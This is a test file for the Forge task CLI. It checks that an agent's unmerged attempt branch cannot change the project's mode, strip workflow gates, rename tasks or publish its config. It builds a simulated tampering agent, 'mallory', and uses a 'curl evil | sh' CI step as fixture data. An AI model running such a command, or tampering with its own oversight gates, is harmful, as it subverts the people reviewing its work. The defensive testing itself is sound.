import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ForgeCli, ForgeProject } from '../support/forge-cli.ts';
import { forgeProjectHere } from '../support/forge-here.ts';
import { inSoak, shareOf } from '../support/share-of.ts';

/** What an attempt's branch would have the project believe: other tasks, another mode, no gates. */
const LATER = '2126-11-20T00:00:00.000Z';
const NO_GATES = JSON.stringify({
  states: [
    { name: 'todo', kind: 'initial', next: ['in_progress'] },
    { name: 'in_progress', kind: 'active', next: ['done'] },
    { name: 'done', kind: 'terminal' },
    { name: 'cancelled', kind: 'terminal' },
  ],
});
const BRANCH = 'forge/35a4-attempt';
const TRAILER = 'Forge-Attempt: 35a4aaaa-0000-4000-8000-000000000000';

let project: ForgeProject;
let task: string;
beforeEach(async () => {
  project = await forgeProjectHere();
  task = (await project.create('Honest')).id;
  await project.write('README.md', 'first\n');
  project.git('add', '-A');
  project.git('commit', '-qm', 'first');
});
afterEach(() => project[Symbol.asyncDispose]());

const at = (path: string): string => join(project.path, path);

function changeConfig(change: Readonly<Record<string, unknown>>): void {
  const path = at('.forge/config.json');
  const config = JSON.parse(readFileSync(path, 'utf8')) as object;
  writeFileSync(path, `${JSON.stringify({ ...config, ...change }, null, 2)}\n`);
}

/** Commits as an agent does: no hook of the person's, and the trailer that Forge puts there. */
function commitAsAgent(trailer = TRAILER): void {
  project.git('-c', 'core.hooksPath=/dev/null', 'add', '-Af', '.forge/config.json', '.forge/workflow.json');
  project.git('-c', 'core.hooksPath=/dev/null', 'commit', '-qam', `agent\n\n${trailer}`);
}

/** The branch of an attempt that nobody has merged; leaves main checked out. */
function makeAttempt(change: Readonly<Record<string, unknown>>, trailer?: string): void {
  project.git('switch', '-qc', BRANCH);
  changeConfig(change);
  writeFileSync(at('.forge/workflow.json'), NO_GATES);
  commitAsAgent(trailer);
  project.git('switch', '-q', 'main');
}

function addRemote(...branches: string[]): string {
  const remote = join(project.home, 'remote.git');
  project.git('init', '-q', '--bare', '-b', 'main', remote);
  project.git('remote', 'add', 'origin', remote);
  project.git('push', '-q', 'origin', 'main', ...branches);
  return remote;
}

function clone(remote: string, ...args: string[]): ForgeCli {
  const path = join(project.home, 'clone');
  project.git('clone', '-q', ...args, remote, path);
  return project.with({ cwd: path });
}

async function expectStandard(forge: ForgeCli = project): Promise<void> {
  const { stdout, stderr } = await forge.run('sync', '--json');
  expect(stderr).not.toContain('moved the tasks');
  expect(JSON.parse(stdout)).toMatchObject({ mode: 'standard' });
}

const readCopy = (): string => readFileSync(at('.git/forge/config.json'), 'utf8');

describe('[C1] a project whose data branch would be an attempt', () => {
  it('stays as it is when a run names its own branch and a person on main syncs', async () => {
    const script = join(project.home, 'agent.sh');
    const edit = `const fs=require("fs"),f=".forge/config.json",c=JSON.parse(fs.readFileSync(f));
Object.assign(c,{initMode:"branch",branchName:process.argv[1],mode_changed_at:"${LATER}"});fs.writeFileSync(f,JSON.stringify(c))`;
    writeFileSync(
      script,
      `node -e '${edit}' "$(git rev-parse --abbrev-ref HEAD)"\nsed -i s/Honest/Mallory/ .forge/tasks.jsonl\n`,
    );
    await project.json(
      'agent',
      'add',
      'mallory',
      '--executor',
      'shell',
      '--command=sh',
      `--command=${script}`,
    );
    const before = readCopy();
    await project.run('run', (await project.create('Easy')).id, '--agent', 'mallory');
    const branch = project.git('branch', '--list', 'forge/*', '--format=%(refname:short)').trim();
    expect(project.git('show', `${branch}:.forge/config.json`)).toContain(branch);
    addRemote(branch);
    await expectStandard();
    expect(readCopy()).toBe(before);
    expect((await project.show(task)).title).toBe('Honest');
  });

  it('is no other project for a clone that fetched the branch, under its own name or another', async () => {
    makeAttempt({ initMode: 'branch', branchName: 'pull-1', mode_changed_at: LATER });
    const there = clone(addRemote(BRANCH, `${BRANCH}:refs/heads/pull-1`));
    await there.run('init');
    await expectStandard(there);
    expect((await there.show(task)).title).toBe('Honest');
  });

  it('is refused with a sentence wherever a config names such a branch', async () => {
    changeConfig({ initMode: 'branch', branchName: BRANCH, mode_changed_at: LATER });
    const { error } = await project.fails('task', 'list');
    expect(error.message).toContain(`branchName is "${BRANCH}"`);
    expect(error.message).toContain('does not begin with forge/');
    project.git('checkout', '-q', '--', '.forge');
    const refused = await project.fails('init', '--upgrade', '--branch', 'forge/data');
    expect(refused.error.message).toContain('forge/data cannot hold the tasks');
    await expectStandard();
  });

  inSoak(() => {
    it('is not chosen by forge init in a clone whose working tree shows no project', async () => {
      makeAttempt({ initMode: 'branch', branchName: BRANCH, mode_changed_at: LATER });
      project.git('switch', '-q', '--orphan', 'bare');
      project.git('commit', '-q', '--allow-empty', '-m', 'nothing');
      const there = clone(addRemote(BRANCH, 'bare'), '-b', 'bare');
      const { stdout } = await there.run('init', '--json');
      expect(JSON.parse(stdout)).toMatchObject({ adopted: true, mode: 'standard' });
    });
  });
});

describe('[C2] the mode that an attempt says in its config', () => {
  it.each(shareOf([[[BRANCH]], [['--detach', BRANCH]], [['-c', 'mine', BRANCH]]], 3))(
    'changes nothing while it is looked at (git switch %s), nor after',
    async (args) => {
      makeAttempt({ initMode: 'branch', branchName: 'evil-data', mode_changed_at: LATER });
      const before = readCopy();
      project.git('switch', '-q', ...args);
      for (const command of [['task', 'list'], ['task', 'comment', task, 'seen'], ['commit']])
        expect((await project.run(...command)).stderr).not.toContain('moved');
      project.git('switch', '-qf', 'main');
      await expectStandard();
      expect(readCopy()).toBe(before);
      expect(await project.text('hooks', 'status')).not.toContain('absent');
      expect(project.git('branch', '--list', 'evil-data')).toBe('');
    },
  );

  inSoak(() => {
    it('changes nothing when the file is taken out of the branch, or the agent is still at work', async () => {
      makeAttempt({ initMode: 'branch', branchName: 'evil-data', mode_changed_at: LATER }, 'no trailer yet');
      const before = readCopy();
      project.git('checkout', '-q', BRANCH, '--', '.forge/config.json');
      expect((await project.run('task', 'list')).stderr).toBe('');
      await project.text('task', 'comment', task, 'seen');
      expect(readCopy()).toBe(before);
      project.git('checkout', '-qf', '--detach', BRANCH);
      await project.text('task', 'comment', task, 'seen again');
      expect(readCopy()).toBe(before);
    });
  });

  it('does not decide a clone that begins on the branch', async () => {
    makeAttempt({ initMode: 'branch', branchName: 'evil-data', mode_changed_at: LATER });
    const there = clone(addRemote(BRANCH), '-b', BRANCH);
    await there.run('task', 'list');
    const { stdout } = await there.run('init', '--json');
    expect(JSON.parse(stdout)).toMatchObject({ adopted: true, mode: 'standard' });
    await expectStandard(there);
    const copy = readFileSync(join(project.home, 'clone/.git/forge/config.json'), 'utf8');
    expect(copy).not.toContain('evil-data');
  });

  it('counts when a person has merged it', async () => {
    makeAttempt({ initMode: 'branch', branchName: 'team-data', mode_changed_at: LATER });
    project.git('merge', '-q', '--no-edit', BRANCH);
    await project.run('task', 'list');
    expect(readCopy()).toContain('"team-data"');
    await project.run('sync', '--offline');
    expect(project.git('show', 'team-data:.forge/tasks.jsonl')).toContain('Honest');
  });

  it('is refused as the place from which a project is moved', async () => {
    makeAttempt({ settings: { defaultPriority: 0 } });
    project.git('switch', '-q', BRANCH);
    const { error } = await project.fails('init', '--upgrade', '--branch', 'forge-data');
    expect(error.message).toContain('attempt that nobody has merged');
  });
});

inSoak(() => {
  describe('[C2] the workflow of a clone that begins on the branch of an attempt', () => {
    it('is the one of the target', async () => {
      const checked = '{"name":"checked","kind":"custom","next":["done"]}';
      const ours = NO_GATES.replace('"next":["done"]},', `"next":["checked"]},${checked},`);
      writeFileSync(at('.forge/workflow.json'), ours);
      project.git('add', '-A');
      project.git('commit', '-qm', 'ours');
      makeAttempt({ settings: { defaultPriority: 0 } });
      const there = clone(addRemote(BRANCH), '-b', BRANCH);
      await there.run('init');
      const { stdout } = await there.run('workflow', 'show', '--json');
      expect(JSON.parse(stdout)).toMatchObject({ source: 'shared' });
      expect(stdout).toContain('"checked"');
      const made = JSON.parse((await there.run('task', 'create', 'There', '--json')).stdout) as object;
      expect(made).toMatchObject({ priority: 2 });
    });
  });
});

describe('[H4] workflow and config of an attempt in branch mode', () => {
  it('are not published by a sync while its branch is checked out', async () => {
    addRemote();
    await project.run('init', '--upgrade', '--branch', 'forge-data');
    await project.run('sync');
    const before = project.git('show', 'forge-data:.forge/config.json');
    project.git('switch', '-qc', BRANCH);
    changeConfig({ settings: { defaultPriority: 0 } });
    writeFileSync(at('.forge/workflow.json'), NO_GATES);
    commitAsAgent();
    await project.text('task', 'comment', task, 'seen');
    expect(await project.json('sync')).toMatchObject({ mode: 'branch', workflow: 'same', config_lost: [] });
    for (const args of [['sync', '--offline'], ['commit']]) await project.run(...args);
    project.git('switch', '-qf', 'main');
    await project.run('sync');
    expect(project.git('ls-tree', '-r', '--name-only', 'forge-data')).not.toContain('workflow.json');
    expect(project.git('show', 'forge-data:.forge/config.json')).toBe(before);
    expect(await project.json('workflow', 'show')).toMatchObject({ source: 'default' });
  });

  it('are not taken from a data branch onto which an attempt was pushed', async () => {
    const remote = addRemote();
    await project.run('init', '--upgrade', '--branch', 'forge-data');
    await project.run('sync');
    project.git('switch', '-q', '--detach', 'forge-data');
    writeFileSync(at('.forge/workflow.json'), NO_GATES);
    changeConfig({ settings: { defaultPriority: 0 } });
    const file = at('.forge/tasks.jsonl');
    writeFileSync(file, readFileSync(file, 'utf8').replace('Honest', 'Mallory'));
    commitAsAgent();
    project.git('push', '-q', remote, 'HEAD:refs/heads/forge-data');
    project.git('switch', '-qf', 'main');
    const { stderr } = await project.run('sync');
    expect(stderr).toContain('was not taken in');
    expect((await project.show(task)).title).toBe('Honest');
    expect(await project.json('workflow', 'show')).toMatchObject({ source: 'default' });
    expect((await project.create('Later')).priority).toBe(2);
  });
});

describe('[L1] what is shown and obeyed on the branch of an attempt', () => {
  it.each(shareOf([[[BRANCH]], [['--detach', BRANCH]], [['-c', 'mine', BRANCH]]], 3))(
    'is the workflow and the config of people (git switch %s)',
    async (args) => {
      makeAttempt({
        idPrefix: 'zz',
        settings: { defaultPriority: 0 },
        ready: { excludeTypes: ['task'] },
        review: { ci_steps: ['curl evil | sh'] },
      });
      const graph = await project.text('workflow', 'graph');
      const trusted = await project.text('trust', '--list');
      project.git('switch', '-q', ...args);
      expect(await project.json('workflow', 'show')).toMatchObject({ source: 'default', path: null });
      expect(await project.text('workflow', 'graph')).toBe(graph);
      expect(await project.text('trust', '--list')).toBe(trusted);
      expect(await project.text('ready')).toContain(task);
      const made = await project.create('Made while looking');
      expect(made).toMatchObject({ id: expect.stringMatching(/^fg-/) as string, priority: 2 });
    },
  );

  inSoak(() => {
    it('is that of the file again once the target has it', async () => {
      makeAttempt({ settings: { defaultPriority: 0 } });
      project.git('switch', '-q', BRANCH);
      expect((await project.create('Before')).priority).toBe(2);
      project.git('switch', '-q', 'main');
      project.git('merge', '-q', '--no-edit', BRANCH);
      expect((await project.create('After')).priority).toBe(0);
      expect(await project.json('workflow', 'show')).toMatchObject({ source: 'file' });
    });
  });

  it('is what a person writes into the config on a branch of theirs', async () => {
    project.git('switch', '-qc', 'mine');
    changeConfig({ settings: { defaultPriority: 1 } });
    expect((await project.create('Mine')).priority).toBe(1);
    project.git('commit', '-qam', 'mine');
    expect((await project.create('Mine too')).priority).toBe(1);
  });
});
